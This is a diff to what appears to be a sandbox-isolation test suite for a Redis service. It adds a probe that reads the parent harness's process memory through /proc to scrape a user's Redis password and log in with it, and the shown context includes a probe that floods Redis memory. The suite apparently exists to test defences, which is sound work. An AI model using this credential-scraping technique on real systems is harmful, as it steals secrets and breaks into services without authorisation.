@@ -50,6 +50,22 @@ export const SERVICE_PROBES: readonly InsideProbe[] = [
      return (opened.filter((line) => !line.startsWith("-")).length > 0 || seen) && said;`,
   ),
   probe(
+    "reads the password of the spec's user in the harness's memory, and comes in by it",
+    `const found = new Set();
+     const marks = ["aulo on >", "$4\\r\\naulo\\r\\n$32\\r\\n"];
+     const memory = fs.openSync("/proc/" + process.ppid + "/mem");
+     for (const [, from, to] of fs.readFileSync("/proc/" + process.ppid + "/maps", "utf8").matchAll(/^([0-9a-f]+)-([0-9a-f]+) rw/gm)) {
+       const start = parseInt(from, 16), bytes = Buffer.alloc(Math.min(parseInt(to, 16) - start, 4 << 20));
+       try { fs.readSync(memory, bytes, 0, bytes.length, start); } catch { continue; }
+       for (const mark of marks) for (let at = bytes.indexOf(mark); at !== -1; at = bytes.indexOf(mark, at + 1)) {
+         const word = bytes.toString("latin1", at + mark.length, at + mark.length + 32);
+         if (/^[0-9a-f]{32}$/.test(word)) found.add(word);
+       }
+     }
+     for (const word of found) if ((await ask(["AUTH", "aulo", word])).startsWith("+")) return "the password " + word;
+     throw new Error("of " + found.size + " passwords none is taken");`,
+  ),
+  probe(
     "fills Redis' memory by its data",
     `const part = "x".repeat(1 << 20);
      for (let at = 0; at < 200; at += 1) if ((await ask(["SET", "k" + at, part])).startsWith("-OOM")) return null;
